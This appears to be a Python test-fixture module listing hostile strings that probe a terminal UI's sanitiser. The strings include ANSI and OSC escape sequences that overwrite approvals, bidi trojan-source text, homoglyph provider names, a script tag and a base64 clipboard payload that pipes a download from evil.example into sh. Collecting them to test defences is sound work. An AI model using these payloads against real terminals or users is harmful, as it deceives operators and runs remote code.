"""A corpus of hostile strings: what an agent, a provider or the network might send to make the
operator's screen lie. Data only; tests/e2e/test_hostile_text.py puts each through the sanitiser,
the socket, the approvals screen and the command line.

Each entry is (name, text). Names say what the string tries to do.
"""

from __future__ import annotations

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

HOSTILE: list[tuple[str, str]] = [
    # -- ANSI CSI and SGR: colours, hiding, moving the cursor, clearing --------------------------
    ("sgr red", f"{ESC}[31mRED{ESC}[0m"),
    ("sgr hidden text", f"visible {ESC}[8mhidden{ESC}[28m"),
    ("sgr truecolor", f"{ESC}[38;2;255;0;0m{ESC}[48;2;0;0;0mtrue colour{ESC}[0m"),
    ("sgr blink reverse", f"{ESC}[5;7m APPROVED {ESC}[m"),
    ("csi clear screen", f"{ESC}[2J{ESC}[3J{ESC}[H"),
    ("csi cursor up overwrite", f"approve 0.01{ESC}[1A{ESC}[2Kdeny"),
    ("csi cursor position", f"{ESC}[1;1HSANDBOX OFF{ESC}[40;1H"),
    ("csi erase line", f"safe{ESC}[2K{ESC}[1Gevil"),
    ("csi scroll region", f"{ESC}[1;3r{ESC}[S"),
    ("csi alternate screen", f"{ESC}[?1049h{ESC}[?25l"),
    ("csi mouse tracking", f"{ESC}[?1000h{ESC}[?1006h"),
    ("csi report cursor", f"{ESC}[6n{ESC}[c{ESC}[>0c"),
    ("c1 csi", "\x9b31mC1 red\x9b0m"),
    ("esc reset", f"{ESC}c"),
    ("esc save restore cursor", f"{ESC}7{ESC}[Hx{ESC}8"),
    ("dec line drawing", f"{ESC}(0lqqk{ESC}(B"),
    ("lone esc at end", f"trailing {ESC}"),
    # -- OSC: title, links, clipboard, palette, images --------------------------------------------
    ("osc title bel", f"{ESC}]0;pwned{BEL}"),
    ("osc title st", f"{ESC}]2;window title{ST}"),
    ("osc 8 link", f"{ESC}]8;;https://evil.example/approve{BEL}click me{ESC}]8;;{BEL}"),
    ("osc 8 link st", f"{ESC}]8;id=1;https://evil.example{ST}docs{ESC}]8;;{ST}"),
    ("osc 52 clipboard", f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}"),
    ("osc 52 c1", "\x9d52;c;ZWNobyBoaQ==\x9c"),
    ("osc palette", f"{ESC}]4;1;rgb:00/00/00{BEL}{ESC}]10;#000000{BEL}"),
    ("osc iterm file", f"{ESC}]1337;File=inline=1:AAAA{BEL}"),
    # -- DCS, APC, PM, SOS ------------------------------------------------------------------------
    ("dcs request status", f'{ESC}P$q"p{ST}'),
    ("dcs sixel", f"{ESC}Pq#0;2;0;0;0#0~~@@{ST}"),
    ("c1 dcs", "\x90payload\x9c"),
    ("apc kitty graphics", f"{ESC}_Gf=100;AAAA{ST}"),
    ("pm and sos", f"{ESC}^private{ST}{ESC}Xstart{ST}"),
    # -- carriage returns, backspaces and other C0/C1 controls -----------------------------------
    ("carriage return overwrite", "approve 0.01 USDC\rdeny    999 USDC"),
    ("crlf", "line one\r\nline two"),
    ("backspaces", "sk_live_secret\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08safe"),
    ("bell", f"ding{BEL}{BEL}"),
    ("vertical tab form feed", "a\x0bb\x0cc"),
    ("nul", "nul\x00byte"),
    ("del", "del\x7fete"),
    ("every c0", "".join(chr(c) for c in range(0x20))),
    ("every c1", "".join(chr(c) for c in range(0x80, 0xA0))),
    ("next line", "one\x85two"),
    ("tabs", "col1\tcol2\t\t\tcol3\t"),
    ("newlines", "first\nsecond\n\n\nfifth"),
    ("trailing newline", "research-bot\n"),
    ("line and paragraph separators", "one\u2028two\u2029three"),
    # -- Rich and Textual markup -----------------------------------------------------------------
    ("click quit", "[@click=app.quit]Approve[/]"),
    ("click bell", "[@click=app.bell]ring[/]"),
    ("click screen action", "[@click=screen.dismiss('approved')]ok[/]"),
    ("link markup", "[link=https://evil.example]documentation[/link]"),
    ("style markup", "[bold red on white]LOUD[/bold red on white]"),
    ("stray closing tag", "[/]"),
    ("nested markup", "[reverse][white on red] APPROVED [/][/reverse]"),
    ("emoji code", ":warning: :red_circle: :thumbs_up:"),
    ("textual variable", "[$accent]themed[/]"),
    ("escaped bracket", "\\[not a tag] [b\\]"),
    ("colour hex markup", "[on #ff0000]red background[/]"),
    # -- bidi overrides and isolates -------------------------------------------------------------
    ("rlo filename", "invoice\u202egpj.exe"),
    ("lro", "\u202dforced ltr\u202c"),
    ("embeddings", "\u202bright\u202c \u202aleft\u202c"),
    ("isolates", "\u2066a\u2067b\u2068c\u2069"),
    ("marks", "price\u200f 10\u200e USDC"),
    ("arabic letter mark", "\u061c1000"),
    ("trojan source", 'access = "user\u202e \u2066// admin\u2069 \u2066"'),
    # -- zero-width and other invisible characters -----------------------------------------------
    ("zero width space", "ad\u200bmin"),
    ("zwnj zwj", "a\u200cb\u200dc"),
    ("word joiner", "sk_live\u2060_key"),
    ("byte order mark", "\ufeffbom"),
    ("soft hyphen", "pay\u00adment"),
    ("combining grapheme joiner", "a\u034fb"),
    ("mongolian vowel separator", "x\u180ey"),
    ("hangul fillers", "\u3164\u115f\u1160\uffa0"),
    ("invisible math", "a\u2061\u2062\u2063\u2064b"),
    ("tag characters", "ok\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065"),
    ("variation selectors smuggling", "a\ufe00\ufe01\ufe02\U000e0100\U000e0101"),
    ("interlinear annotation", "\ufff9base\ufffaruby\ufffb"),
    ("khmer invisible vowels", "x\u17b4\u17b5y"),
    ("braille blank", "\u2800\u2800\u2800"),
    ("arabic number sign", "\u0600\u0601123"),
    ("musical formatting", "a\U0001d173\U0001d17ab"),
    # -- homoglyph provider names ----------------------------------------------------------------
    ("cyrillic o", "\u041epenAI"),
    ("cyrillic a", "p\u0430ypal-data"),
    ("greek api", "\u0391\u03a1\u0399 Data"),
    ("fullwidth", "\uff2f\uff50\uff45\uff4e\uff21\uff29"),
    ("mathematical bold", "\U0001d40e\U0001d429\U0001d41e\U0001d427\U0001d400\U0001d408"),
    ("cherokee", "\u13da\u13a2\u13b5\u13ac\u13a2\u13ac\u13d2"),
    # -- very long values ------------------------------------------------------------------------
    ("long ascii", "A" * 100_000),
    ("long emoji", "\U0001f600" * 5000),
    ("long escapes", f"{ESC}[31m" * 3000),
    ("long brackets", "[" * 5000 + "]" * 5000),
    # -- emoji and ZWJ sequences -----------------------------------------------------------------
    ("zwj family", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"),
    ("flag", "\U0001f1fa\U0001f1f3"),
    ("skin tone", "\U0001f44d\U0001f3fd"),
    ("keycap", "1\ufe0f\u20e3"),
    ("emoji presentation", "\u2764\ufe0f"),
    # -- invalid surrogates ----------------------------------------------------------------------
    ("lone high surrogate", "before\ud800after"),
    ("lone low surrogate", "\udfff"),
    # -- other ------------------------------------------------------------------------------------
    ("zalgo", "Z" + "\u0351\u0352\u0353\u0354\u0355\u0356" * 20 + "algo"),
    ("right to left text", "\u0645\u0631\u062d\u0628\u0627 world"),
    ("private use", "\ue000\uf8ff"),
    ("html", "<script>alert(1)</script><b>bold</b>"),
    ("json escape text", '{"q": "\\u001b[31m"}'),
]

# Provider names made of lookalike letters, each imitating an ASCII name.
HOMOGLYPH_NAMES = [text for name, text in HOSTILE if name in {
    "cyrillic o", "cyrillic a", "greek api", "fullwidth", "mathematical bold", "cherokee",
}]  # fmt: skip
